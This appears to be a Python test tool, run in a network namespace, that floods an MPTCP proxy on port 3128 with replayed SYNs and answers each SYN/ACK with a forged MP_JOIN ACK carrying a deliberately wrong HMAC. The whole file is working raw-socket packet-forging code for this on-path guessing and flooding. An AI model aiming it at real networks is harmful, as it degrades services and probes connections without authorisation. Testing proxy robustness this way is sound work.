"""A client on the path of another one, which guesses the HMACs of joins; a program of its own, started in a namespace.

Arguments: the device, a file of SYNs (frames, each behind its length, 16 bits), how many of these to send a second. It
sees the proxy's SYN/ACK to each, and answers with the right acknowledgment number and a wrong HMAC (RFC 8684, 3.2).
Each half second it prints how many SYNs and guesses it sent, and in how many seconds.
"""

from __future__ import annotations

import socket
import struct
import sys
import time

_ETH_P_ALL, _SOL_PACKET, _IGNORE_OUTGOING = 3, 263, 23
"""linux/if_ether.h, linux/if_packet.h"""
_AT_ONCE = 64
_OPTION = bytes((30, 24, 0x10, 0)) + bytes(20)
"""MP_JOIN of a third ACK: kind, length, subtype, and 160 bits that are not the HMAC."""
_CONSTANT = sum(struct.unpack("!12H", _OPTION)) + socket.IPPROTO_TCP + 20 + len(_OPTION)
_PORT = (3128).to_bytes(2, "big")


def guess(answer: bytes) -> bytes | None:
    """Return the third ACK to the frame *answer*; None where that is no SYN/ACK of the proxy by IPv4."""
    if answer[12:15] != b"\x08\x00\x45" or answer[34:36] != _PORT or answer[47] & 0x12 != 0x12:
        return None
    proxy, client = answer[26:30], answer[30:34]
    acknowledgment = ((int.from_bytes(answer[38:42], "big") + 1) & 0xFFFFFFFF).to_bytes(4, "big")
    # Ports, sequence and acknowledgment number, eleven words of header, ACK, window.
    tcp = answer[36:38] + _PORT + answer[42:46] + acknowledgment + b"\xb0\x10\xff\xff"
    checksum = _checksum(_CONSTANT + sum(struct.unpack("!12H", tcp + client + proxy)))
    begin, end = b"\x45\0\0\x40\0\0\x40\0\x40\x06", client + proxy
    ip = begin + _checksum(sum(struct.unpack("!9H", begin + end))) + end
    return answer[6:12] + answer[:6] + b"\x08\0" + ip + tcp + checksum + b"\0\0" + _OPTION


def _checksum(total: int) -> bytes:
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return (~total & 0xFFFF).to_bytes(2, "big")


def _frames(file: str) -> list[bytes]:
    frames = []
    with open(file, "rb") as opened:
        while length := opened.read(2):
            frames.append(opened.read(int.from_bytes(length, "big")))
    return frames


def main(device: str, file: str, per_second: int) -> None:
    """Go on until killed."""
    raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    raw.setsockopt(_SOL_PACKET, _IGNORE_OUTGOING, 1)
    raw.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 22)
    raw.bind((device, _ETH_P_ALL))
    raw.setblocking(False)
    frames, sent, guesses = _frames(file), 0, 0
    begin = told = time.monotonic()
    while True:
        now = time.monotonic()
        due = min(_AT_ONCE, int((now - begin) * per_second) - sent)
        for number in range(sent, sent + due):
            raw.send(frames[number % len(frames)])
        sent += max(0, due)
        answered = 0
        try:
            while answered < 2 * _AT_ONCE:
                ack = guess(raw.recv(2000))
                answered += 1
                if ack is not None:
                    raw.send(ack)
                    guesses += 1
        except BlockingIOError:
            if due <= 0:
                time.sleep(0.001)
        if now - told > 0.5:
            told = now
            print(sent, guesses, now - begin, flush=True)


if __name__ == "__main__":
    main(sys.argv[1], sys.argv[2], int(sys.argv[3]))
